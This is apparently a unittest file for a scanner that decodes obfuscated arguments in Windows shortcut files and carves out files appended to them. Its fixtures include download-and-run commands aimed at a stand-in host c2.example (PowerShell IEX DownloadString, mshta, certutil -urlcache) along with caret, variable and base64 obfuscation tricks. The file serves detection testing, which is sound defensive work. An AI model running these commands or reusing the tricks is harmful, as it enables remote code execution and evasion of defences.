# SPDX-License-Identifier: GPL-2.0-or-later
"""What a shortcut hides, and genkan-scan shows: commands behind tricks, files behind its end."""
import base64
import hashlib
import struct
import unittest

import make_container as c
import make_lnk as m
import tap
from scan import SCAN_DEEP, run_scan, start

CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a')"


def wide(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


# arguments, what the last layer must hold
TRICKS = {
    "carets": (CMD, "/c p^o^w^e^r^s^h^e^l^l -c calc", "powershell -c calc"),
    "empty quotes": (CMD, '/c po""wer""shell -c calc', "powershell -c calc"),
    "backticks": (POWERSHELL, "-c i`e`x(calc)", "iex(calc)"),
    "a well-known variable": (CMD, "/c %COMSPEC% /c calc", r"C:\Windows\System32\cmd.exe /c calc"),
    "cut out of a variable": (CMD, "/c %comspec:~-7,3% /c calc", "cmd /c calc"),
    "a variable of its own": (CMD, "/c set a=msh&& set b=ta&& call %a%%b% http://c2.example/a", "call mshta http://c2.example/a"),
    "a variable of its own, late": (CMD, '/v:on /c "set x=certutil&&!x! -urlcache -f http://c2.example/a a"', "certutil -urlcache"),
    "sums of texts": (POWERSHELL, "-c & ('i'+'e' + 'x') ('ht'+'tp://c2.example')", "('iex') ('http://c2.example')"),
    "characters by number": (POWERSHELL, "-c [char]105+[char]0x65+[char]120", "iex"),
    "base64 of UTF-16": (POWERSHELL, "-enc " + wide(FETCH), FETCH),
    "base64 of ASCII": (POWERSHELL, "-c $x='" + base64.b64encode(FETCH.encode()).decode() + "'", FETCH),
    "base64 in base64": (POWERSHELL, "-enc " + wide("powershell -enc " + wide(FETCH)), FETCH),
    "carets around base64": (CMD, "/c p^owershell -enc " + wide(FETCH), FETCH),
}


def pe():
    header = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0, 2)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 16, 0x1000, 16, 128, 0, 0, 0, 0, 0x60000020)
    return (header + section).ljust(128, b"\0") + b"\xcc" * 16


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF"
HTA = b"<html><hta:application id=x><script>new ActiveXObject('WScript.Shell')</script></html>"
EVIL = m.windows_like(CMD, arguments=" " * 300 + "/c calc")


class Commands(unittest.TestCase):
    def test_behind_tricks_are_shown(self):
        for what, (program, arguments, wanted) in TRICKS.items():
            with self.subTest(what):
                decoded = run_scan(m.windows_like(program, arguments=arguments), "--name", "a.lnk")["lnk"]["decoded"]
                self.assertIn(wanted, decoded[-1]["text"])
                self.assertTrue(all(layer["how"] for layer in decoded))

    def test_behind_tricks_count(self):
        for what in ("base64 of ASCII", "a variable of its own", "a variable of its own, late", "sums of texts", "base64 in base64"):
            with self.subTest(what):
                program, arguments, _ = TRICKS[what]
                triage = run_scan(m.windows_like(program, arguments=arguments))
                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
                self.assertTrue({"arguments-fetch", "builtin-with-url"} & {i["id"] for i in triage["indicators"]})

    def test_without_tricks_have_no_layers(self):
        for arguments in ("", "--profile default", r'/k "C:\Program Files\Tools\vars64.bat"', "%1 100%", "a=b&c"):
            with self.subTest(arguments):
                self.assertEqual(run_scan(m.windows_like(CMD, arguments=arguments))["lnk"]["decoded"], [])

    def test_that_grow_without_end_are_cut_short(self):
        for arguments in ("set a=%a%%a%&" * 300, "set a=" + "x" * 3000 + "&" + "%a%" * 20000, "^" * 60000, "[char]" * 9000):
            lnk = run_scan(m.windows_like(CMD, arguments=arguments))["lnk"]
            self.assertLess(sum(len(layer["text"]) for layer in lnk["decoded"]), 1 << 20)


class Carved(unittest.TestCase):
    def carve(self, overlay, *options):
        return run_scan(m.windows_like(overlay=overlay), "--name", "a.lnk", *options, program=SCAN_DEEP)

    def test_files_are_found_with_their_kind_and_bytes(self):
        parts = [pe(), PDF, c.zipped({"inner.lnk": EVIL}), HTA]
        triage = self.carve(b"junk" + b"\0pad\0".join(parts))
        self.assertEqual([t["kind"] for t in triage["members"]], ["pe", "pdf", "zip", "hta"])
        self.assertEqual([t["file"]["sha256"] for t in triage["members"]], [hashlib.sha256(p).hexdigest() for p in parts])
        self.assertEqual(triage["members"][2]["members"][0]["verdict"], "suspicious")
        self.assertIn("overlay", [i["id"] for i in triage["indicators"]])

    def test_a_shortcut_without_an_overlay_has_no_members(self):
        self.assertNotIn("members", run_scan(m.windows_like()))
        self.assertNotIn("members", self.carve(b"nothing at all"))

    def test_two_letters_are_no_program(self):
        self.assertNotIn("members", self.carve(b"MZ" * 1000))

    def test_many_are_bounded(self):
        self.assertEqual(len(self.carve(pe() * 100)["members"]), 16)

    def test_a_carved_file_can_be_taken_out(self):
        done, _ = start([SCAN_DEEP, "--member", "1"], m.windows_like(overlay=b"x" + PDF))
        self.assertEqual((done.returncode, done.stdout), (0, PDF))


if __name__ == "__main__":
    tap.main()
